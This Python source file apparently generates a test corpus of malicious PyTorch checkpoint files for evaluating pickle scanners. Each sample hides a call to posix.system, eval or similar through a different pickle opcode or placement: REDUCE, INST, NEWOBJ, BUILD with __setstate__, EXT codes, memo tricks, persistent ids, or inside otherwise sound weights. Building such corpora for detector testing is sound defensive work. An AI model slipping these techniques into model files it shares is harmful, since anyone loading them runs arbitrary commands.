"""A command run through every opcode of pickle that imports, calls, or makes an object call something."""

import pickle
import struct

from attacks.assemble import Code, called, framed, get, named, put, text, value
from attacks.record import CANARY, PYTHON, SHELL, HostileFile
from attacks.sound import beside_weights, checkpoint, contents, weights

GROUP = "opcodes"
SYSTEM = named("posix:system")
RUN = called("posix:system", SHELL)


def file(name, about, code, *, runs=("posix.system",), proof=True, protocol=4, may_convert=False):
    data = beside_weights(code, protocol)
    return HostileFile(f"opcode_{name}.pt", GROUP, about, data, runs, proof, may_convert=may_convert)


def by_protocol():
    """The same call as the picklers of each protocol write it."""
    newline = SHELL.encode() + b"\n"
    short = b"\x8c" + bytes([len(SHELL)]) + SHELL.encode()
    stack_global = b"\x8c\x05posix\x94\x8c\x06system\x94\x93\x94"
    return [
        file("protocol_0", "GLOBAL, MARK, UNICODE, TUPLE, REDUCE.", Code(SYSTEM + b"(V" + newline + b"tR"), protocol=0),
        file("protocol_1", "With BINUNICODE.", Code(SYSTEM + b"(" + text(SHELL) + b"tR"), protocol=1),
        file("protocol_2", "With TUPLE1.", Code(SYSTEM + text(SHELL) + b"\x85R"), protocol=2),
        file("protocol_3", "With the mark of protocol 3.", Code(SYSTEM + text(SHELL) + b"\x85R"), protocol=3),
        file(
            "protocol_4", "STACK_GLOBAL and MEMOIZE in a FRAME.", Code(framed(stack_global + short + b"\x94\x85\x94R"))
        ),
        file("protocol_5", "The same of protocol 5.", Code(framed(stack_global + short + b"\x85R")), protocol=5),
        file("binstring", "A str of Python 2 as the argument.", Code(SYSTEM + b"U" + short[1:] + b"\x85R")),
        file("string", "STRING with quotes.", Code(SYSTEM + b"(S'" + SHELL.encode() + b"'\ntR")),
    ]


def by_opcode():
    """Other opcodes than REDUCE."""
    shell, mapped = text(SHELL), Code(named("builtins:map") + value((SYSTEM, [SHELL])) + pickle.NEWOBJ)
    mapped_ex = Code(named("builtins:map") + value((SYSTEM, [SHELL])) + b"}" + pickle.NEWOBJ_EX)
    listed = Code(named("builtins:tuple") + value((mapped,)) + pickle.NEWOBJ)
    listed_ex = Code(named("builtins:tuple") + value((mapped_ex,)) + b"}" + pickle.NEWOBJ_EX)
    extension = called("copyreg:add_extension", "posix", "system", 0xE7)
    lazily = ("posix.system", "builtins.map")
    registered = ("posix.system", "copyreg.add_extension")
    return [
        file("inst", "INST.", Code(b"(" + shell + b"iposix\nsystem\n")),
        file("obj", "OBJ.", Code(b"(" + SYSTEM + shell + b"o")),
        file("newobj", "NEWOBJ of tuple over NEWOBJ of map, which calls.", listed, runs=lazily),
        file("newobj_ex", "The same by NEWOBJ_EX.", listed_ex, runs=lazily),
        file("stack_global", "STACK_GLOBAL.", Code(text("posix") + text("system") + b"\x93" + shell + b"\x85R")),
        file(
            "ext1",
            "Registers the function, then names it by EXT1.",
            Code(extension + b"0\x82\xe7" + shell + b"\x85R"),
            runs=registered,
        ),
        file("ext2", "By EXT2.", Code(extension + b"0\x83\xe7\0" + shell + b"\x85R"), runs=registered),
        file("ext4", "By EXT4.", Code(extension + b"0\x84\xe7\0\0\0" + shell + b"\x85R"), runs=registered),
        file(
            "ext1_unregistered",
            "EXT1 of a code that some program may have registered.",
            Code(b"\x82\x07" + shell + b"\x85R"),
            runs=(),
            proof=False,
        ),
        file(
            "reduce_of_a_result",
            "Calls what a call returned.",
            called(called("builtins:getattr", called("builtins:__import__", "os"), "system"), SHELL),
            runs=("builtins.getattr", "builtins.__import__"),
        ),
    ]


def by_state():
    """BUILD, and opcodes that call methods of what they change."""
    blank = Code(named("argparse:Namespace") + b")" + pickle.NEWOBJ)
    class_state = Code(named("argparse:Namespace") + value((None, {"__setstate__": SYSTEM})) + b"b0")
    return [
        file(
            "build_setstate",
            "An innocent object is given __setstate__, and then a state.",
            Code(blank + value({"__setstate__": SYSTEM}) + b"b" + text(SHELL) + b"b"),
        ),
        file(
            "build_class",
            "An innocent class is given __setstate__ through a state for slots.",
            Code(class_state + blank + text(SHELL) + b"b"),
        ),
        file(
            "build_module",
            "The state of a module: replaces a function of it.",
            Code(named("torch:os") + value({"taper": SYSTEM}) + b"b0" + called("torch:os.taper", SHELL)),
            runs=("posix.system", "torch.os"),
        ),
        file("build_argument", "The call is inside the state.", Code(blank + value({"lr": RUN}) + b"b")),
        file(
            "setitem_environment",
            "SETITEM on os.environ.",
            Code(named("os:environ") + value("TAPER") + value("1") + b"s"),
            runs=("os.environ",),
            proof=False,
        ),
        file(
            "setitems_modules",
            "SETITEMS on sys.modules.",
            Code(named("sys:modules") + b"(" + value("taper") + named("posix:system") + b"u"),
            runs=("sys.modules",),
            proof=False,
        ),
        file(
            "append_path",
            "APPEND on sys.path.",
            Code(named("sys:path") + value("/nowhere") + b"a"),
            runs=("sys.path",),
            proof=False,
        ),
        file(
            "appends_call",
            "APPENDS on an object calls its method extend, which is system.",
            Code(blank + value({"extend": SYSTEM, "append": SYSTEM}) + b"b(" + text(SHELL) + b"e"),
            proof=False,
        ),
        file(
            "append_call",
            "APPEND calls append of an object, which is system.",
            Code(blank + value({"append": SYSTEM}) + b"b" + text(SHELL) + b"a"),
        ),
        file(
            "additems_call",
            "ADDITEMS calls add of an object, which is system.",
            Code(blank + value({"add": SYSTEM}) + b"b(" + text(SHELL) + b"\x90"),
        ),
    ]


def by_place():
    """Where the call stands, and where its result goes."""
    storage = Code(value(("storage", named("torch:FloatStorage"), "0", "cpu", 432)) + b"Q")
    hooked = called("torch._utils:_rebuild_tensor_v2", storage, 0, (36, 12), (12, 1), False, RUN)
    in_id = Code(value(("storage", named("torch:FloatStorage"), "0", "cpu", RUN)) + b"Q")
    attack_only = b"\x80\x02" + RUN + b"."
    return [
        HostileFile(
            "opcode_alone.pt", GROUP, "The whole pickle is a call.", checkpoint(attack_only), ("posix.system",), True
        ),
        HostileFile(
            "opcode_before_weights.pt",
            GROUP,
            "A call whose result is dropped, then a sound state dict.",
            checkpoint(b"\x80\x02" + RUN + b"0" + weights() + b"."),
            ("posix.system",),
            True,
        ),
        HostileFile(
            "opcode_as_state_dict_attribute.pt",
            GROUP,
            "A call in the attributes of a sound state dict.",
            checkpoint(b"\x80\x02" + weights() + value({"_metadata": RUN}) + b"b."),
            ("posix.system",),
            True,
        ),
        file("popped", "The result is dropped by POP.", Code(RUN + b"0N")),
        file("popped_to_mark", "The result is dropped by POP_MARK.", Code(b"(" + RUN + b"1N")),
        file("as_key", "The result is the key of a dict.", Code(b"}" + RUN + b"Ns")),
        file("in_list", "The result is an item of a list.", value([1, RUN])),
        file("in_set", "The result is in a set.", Code(b"\x8f(" + RUN + b"\x90")),
        file(
            "in_arguments", "The argument of an innocent constructor.", called("collections:OrderedDict", [("a", RUN)])
        ),
        file("in_hooks", "Among the arguments of a tensor.", hooked),
        file("in_persistent_id", "Inside the id of a storage.", in_id),
        file(
            "in_memo",
            "The function goes through the memo.",
            Code(SYSTEM + put(5000) + b"0" + get(5000) + text(SHELL) + b"\x85R"),
        ),
        file("memo_text", "GET with a number as text.", Code(SYSTEM + b"p5001\n0g5001\n" + text(SHELL) + b"\x85R")),
        file("duplicated", "The function is duplicated by DUP.", Code(SYSTEM + b"2" + text(SHELL) + b"\x85R\x86")),
        file(
            "twice",
            "Two different calls.",
            value([RUN, called("builtins:eval", PYTHON)]),
            runs=("posix.system", "builtins.eval"),
        ),
        file(
            "persid",
            "PERSID, whose id only the program that wrote it understands.",
            Code(b"Pstorage\n"),
            runs=(),
            proof=False,
            may_convert=True,
        ),
        file("next_buffer", "NEXT_BUFFER after the call.", Code(RUN + b"0\x97"), proof=True),
        file("bytearray", "BYTEARRAY8 before the call.", Code(b"\x96" + struct.pack("<Q", 3) + b"abc0" + RUN)),
        file("float_text", "FLOAT before the call.", Code(b"F1.5\n0" + RUN)),
        file(
            "named_not_called", "Names posix.system and calls nothing.", SYSTEM, runs=(), proof=False, may_convert=True
        ),
        file(
            "canary_by_open",
            "builtins.open for writing.",
            called("builtins:open", CANARY, "a"),
            runs=("builtins.open",),
        ),
    ]


def files():
    """Every file of this class."""
    assert contents()["version"].strip()
    return [*by_protocol(), *by_opcode(), *by_state(), *by_place()]
